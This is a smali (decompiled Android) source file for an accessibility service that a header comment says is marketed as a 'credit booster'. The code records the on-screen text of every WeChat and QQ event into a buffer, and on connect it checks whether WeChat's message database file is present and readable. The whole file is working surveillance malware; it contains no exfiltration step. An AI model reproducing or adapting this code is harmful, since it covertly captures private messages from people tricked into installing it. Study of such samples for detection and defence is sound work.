.class public Lcom/example/socialcash/service/CreditAssistService;
.super Landroid/accessibilityservice/AccessibilityService;
.source "CreditAssistService.java"

# Accessibility service sold to the user as a "credit booster". It keeps the
# text of every event raised by WeChat (com.tencent.mm) or QQ
# (com.tencent.mobileqq), and on connect looks for WeChat's message database
# /data/data/com.tencent.mm/MicroMsg/EnMicroMsg.db.


# instance fields
.field private final captured:Ljava/lang/StringBuilder;


# direct methods
.method public constructor <init>()V
    .registers 2
    # local v0 ; p0 = this

    invoke-direct {p0}, Landroid/accessibilityservice/AccessibilityService;-><init>()V
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    iput-object v0, p0, Lcom/example/socialcash/service/CreditAssistService;->captured:Ljava/lang/StringBuilder;

    return-void
.end method

.method private static isWatchedApp(Ljava/lang/String;)Z
    .registers 2
    # local v0 ; p0 = package name

    const-string v0, "com.tencent.mm"
    invoke-virtual {v0, p0}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z
    move-result v0
    if-nez v0, :yes
    const-string v0, "com.tencent.mobileqq"
    invoke-virtual {v0, p0}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z
    move-result v0
    if-nez v0, :yes
    const/4 v0, 0x0
    return v0

    :yes
    const/4 v0, 0x1
    return v0
.end method


# virtual methods
.method public locateWeChatDatabase()J
    .registers 4
    # locals v0..v2 ; p0 = this

    new-instance v0, Ljava/io/File;
    const-string v1, "/data/data/com.tencent.mm/MicroMsg/EnMicroMsg.db"
    invoke-direct {v0, v1}, Ljava/io/File;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/io/File;->exists()Z
    move-result v1
    if-eqz v1, :missing
    invoke-virtual {v0}, Ljava/io/File;->canRead()Z
    move-result v1
    if-eqz v1, :missing
    invoke-virtual {v0}, Ljava/io/File;->length()J
    move-result-wide v1
    return-wide v1

    :missing
    const-wide/16 v1, -0x1
    return-wide v1
.end method

.method public onAccessibilityEvent(Landroid/view/accessibility/AccessibilityEvent;)V
    .registers 5
    # locals v0..v2 ; p0 = this, p1 = event

    invoke-virtual {p1}, Landroid/view/accessibility/AccessibilityEvent;->getPackageName()Ljava/lang/CharSequence;
    move-result-object v0
    if-nez v0, :have_package
    return-void

    :have_package
    invoke-interface {v0}, Ljava/lang/CharSequence;->toString()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcom/example/socialcash/service/CreditAssistService;->isWatchedApp(Ljava/lang/String;)Z
    move-result v1
    if-nez v1, :watched
    return-void

    :watched
    invoke-virtual {p1}, Landroid/view/accessibility/AccessibilityEvent;->getSource()Landroid/view/accessibility/AccessibilityNodeInfo;
    move-result-object v1
    if-nez v1, :have_node
    return-void

    :have_node
    invoke-virtual {v1}, Landroid/view/accessibility/AccessibilityNodeInfo;->getText()Ljava/lang/CharSequence;
    move-result-object v2
    if-eqz v2, :done
    iget-object v1, p0, Lcom/example/socialcash/service/CreditAssistService;->captured:Ljava/lang/StringBuilder;
    invoke-virtual {v1, v0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const/16 v0, 0x9
    invoke-virtual {v1, v0}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    invoke-virtual {v1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/CharSequence;)Ljava/lang/StringBuilder;
    const/16 v0, 0xa
    invoke-virtual {v1, v0}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;

    :done
    return-void
.end method

.method public onInterrupt()V
    .registers 1

    return-void
.end method

.method protected onServiceConnected()V
    .registers 1
    # p0 = this

    invoke-super {p0}, Landroid/accessibilityservice/AccessibilityService;->onServiceConnected()V
    invoke-virtual {p0}, Lcom/example/socialcash/service/CreditAssistService;->locateWeChatDatabase()J

    return-void
.end method
